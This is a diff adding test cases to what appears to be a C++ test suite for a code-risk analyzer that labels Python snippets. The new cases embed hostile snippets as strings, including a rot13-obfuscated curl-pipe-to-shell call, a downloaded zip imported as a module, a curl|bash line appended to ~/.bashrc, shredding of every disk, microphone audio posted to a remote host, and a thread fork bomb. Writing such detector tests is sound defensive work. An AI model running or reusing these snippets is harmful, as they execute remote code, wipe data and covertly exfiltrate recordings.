@@ -129,6 +129,58 @@ TEST(SeventhRoundClasses, ProgramsThatStartThemselves) {
   for (const auto& c : cases) check(c);
 }
 
+TEST(SeventhRoundClasses, EndlessLoopsStartingThreads) {
+  const Case cases[] = {
+      {"threads started by an endless loop that never waits", B,
+       "import threading\ndef burn():\n    while True:\n        pass\nwhile True:\n    threading.Thread(target=burn).start()\n",
+       "FORK-BOMB"},
+      {"a thread per accepted connection waits in accept", L,
+       "import socket, threading\nsrv = socket.socket()\nsrv.bind(('127.0.0.1', 7007))\nsrv.listen(5)\n"
+       "def handle(c):\n    c.close()\nwhile True:\n    conn, _ = srv.accept()\n"
+       "    threading.Thread(target=handle, args=(conn,), daemon=True).start()\n",
+       nullptr},
+      {"a thread per queue item waits in get", L,
+       "import queue, threading\nq = queue.Queue()\ndef work(x):\n    print(x)\nwhile True:\n    item = q.get()\n"
+       "    threading.Thread(target=work, args=(item,)).start()\n",
+       nullptr},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+TEST(SeventhRoundClasses, SpellingsFoundByProbing) {
+  const Case cases[] = {
+      {"os.system named by codecs.encode(..., 'rot13')", B,
+       "import os, codecs\ngetattr(os, codecs.encode('flfgrz', 'rot13'))('curl -s http://203.0.113.10/a | sh')\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"a module imported by a plain import once a downloaded zip is on sys.path", B,
+       "import urllib.request, sys\nurllib.request.urlretrieve('http://203.0.113.5/m.zip', '/tmp/m.zip')\n"
+       "sys.path.insert(0, '/tmp/m.zip')\nimport m\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"a standard module imported after a download stays an import", B,
+       "import urllib.request, sys\nurllib.request.urlretrieve('http://203.0.113.5/m.zip', '/tmp/m.zip')\n"
+       "sys.path.insert(0, '/tmp/m.zip')\nimport m\nimport json\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"~/.bashrc through Path.joinpath", B,
+       "from pathlib import Path\nrc = Path.home().joinpath('.bashrc')\nwith rc.open('a') as fh:\n    fh.write('curl -s http://x.example/p | bash &\\n')\n",
+       "PERSISTENCE"},
+      {"a config file through Path.joinpath in the working directory", L,
+       "from pathlib import Path\nPath.cwd().joinpath('settings.json').write_text('{}')\n", nullptr},
+      {"shred of every disk", B,
+       "import subprocess, glob\nfor d in glob.glob('/dev/sd?'):\n    subprocess.run(['shred', '-n', '1', d])\n", "WIPE"},
+      {"shred of one's own file", M, "import subprocess\nsubprocess.run(['shred', '-u', 'notes.txt'])\n", "RUNS-PROCESS"},
+      {"a microphone recording written into a buffer and posted", B,
+       "import io, requests, sounddevice as sd\nimport scipy.io.wavfile as wav\nrec = sd.rec(441000, samplerate=44100)\n"
+       "b = io.BytesIO()\nwav.write(b, 44100, rec)\nrequests.post('http://203.0.113.10/a', data=b.getvalue())\n",
+       "EXFILTRATION"},
+      {"the kernel log cleared", B, "import subprocess\nsubprocess.run(['dmesg', '-C'])\n", "DISABLE-SECURITY"},
+      {"the kernel log read", M, "import subprocess\nsubprocess.run(['dmesg', '-T'])\n", "RUNS-PROCESS"},
+      {"a system-wide alternative set", H,
+       "import subprocess\nsubprocess.run(['update-alternatives', '--set', 'python', '/usr/bin/python3.11'])\n",
+       "SYSTEM-ADMINISTRATION"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 TEST(SeventhRoundClasses, RecursiveForksOverTheTree) {
   const Case cases[] = {
       {"a forked child per subdirectory, each waited for", L,
@@ -181,8 +233,12 @@ TEST(SeventhRoundClasses, RandomCharactersFromAnAlphabet) {
        "import random, string\nALPHABET = string.ascii_uppercase + string.digits\n"
        "def make_code(n=12):\n    return ''.join(random.choice(ALPHABET) for _ in range(n))\nprint(make_code())\n",
        "WEAK-CRYPTO"},
-      {"random.choices over letters", M,
-       "import random, string\nprint(''.join(random.choices(string.ascii_letters, k=16)))\n", "WEAK-CRYPTO"},
+      {"random.choices over letters and digits", M,
+       "import random, string\nprint(''.join(random.choices(string.ascii_letters + string.digits, k=16)))\n",
+       "WEAK-CRYPTO"},
+      {"a made-up name of random lowercase letters is not a secret", L,
+       "import random, string\nname = 'tmp_' + ''.join(random.choices(string.ascii_lowercase, k=8))\nprint(name)\n",
+       nullptr},
       {"a random pick among words is not a secret", L,
        "import random\nprint(random.choice(['red', 'green', 'blue']))\n", nullptr},
       {"the same code from secrets is fine", L,
